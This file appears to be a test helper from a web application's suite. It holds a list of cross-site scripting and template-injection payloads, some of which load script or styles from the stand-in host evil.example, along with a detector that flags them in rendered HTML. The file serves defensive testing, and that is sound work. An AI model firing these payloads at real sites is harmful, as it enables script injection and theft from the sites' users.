"""What people write who try to get a script onto somebody else's page, and how one sees that they did not."""

from __future__ import annotations

import re
from urllib.parse import unquote, urlsplit

from tests.pages import parse

_RUN = "window.__xss=1"
# What a template engine would make of the sums below; long enough to turn up in no hash by chance.
_SUM_DONE = str(87654321 * 98765432)
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<<script>{_RUN}//<</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}' //",
    f"<img/src=x/onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href=\"javascript:{_RUN}\"><text>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    f"\" onmouseover=\"{_RUN}",
    f"' onmouseover='{_RUN}",
    f"\" autofocus onfocus={_RUN} x=\"",
    f"`onmouseover={_RUN}`",
    f"\"><script>{_RUN}</script>",
    f"'><img src=x onerror={_RUN}>",
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java\tscript:{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"[x](vbscript:{_RUN})",
    f"![x](javascript:{_RUN})",
    f"[x](https://example.org\" onmouseover=\"{_RUN})",
    f"<javascript:{_RUN}>",
    f"[x]: javascript:{_RUN}\n\n[x]",
    "{{87654321*98765432}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${87654321*98765432}#{87654321*98765432}<%= 87654321*98765432 %>{title.__class__}{organisation!r}",
    "\ue000stamp\ue001\ue000ref\ue001",
    "\u202e<script>\u2066x",
    "&lt;script&gt;&#x3c;script&#x3e;%3Cscript%3E",
)  # fmt: skip
_SCHEMES = ("javascript:", "vbscript:", "data:text", "data:image/svg")
_ADDRESSES = ("href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "poster")
_NEVER = ("object", "embed", "base", "math", "applet")


def _is_theirs(address: str) -> bool:
    """Whether it leads to their host; their text may stand in a link that shares the page."""
    try:
        return "evil" in (urlsplit(address).hostname or "")
    except ValueError:
        return True


def dangers_in(html: str, *, scripts_from: tuple[str, ...] = ()) -> list[str]:
    """Everything on a page that would run, load or lead where it should not; only the kit has a script of ours."""
    found = []
    for element in parse(html).iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2]
        if tag == "script" and not (element.get("src") or "").startswith(scripts_from or ("\0",)):
            found.append(f"<script src={element.get('src')}>")
        if tag in _NEVER or (tag == "meta" and element.get("http-equiv")):
            found.append(f"<{tag}>")
        for name, value in element.items():
            # As a browser reads an address: without tabs and line ends, and without what stands in front of it.
            plain = re.sub("[\t\n\r]", "", unquote(value)).strip("\0\x01\x1f ").lower()
            if str(name).lower().startswith("on"):
                found.append(f"<{tag} {name}={value!r}>")
            # Our own icon is a drawing in the page; nobody opens it.
            if tag == "link" and element.get("rel") == "icon" and plain.startswith("data:image/svg"):
                continue
            if str(name).lower() in _ADDRESSES and (plain.startswith(_SCHEMES) or _is_theirs(plain)):
                found.append(f"<{tag} {name}={value!r}>")
    if _SUM_DONE in html:
        found.append("a template ran")
    return found
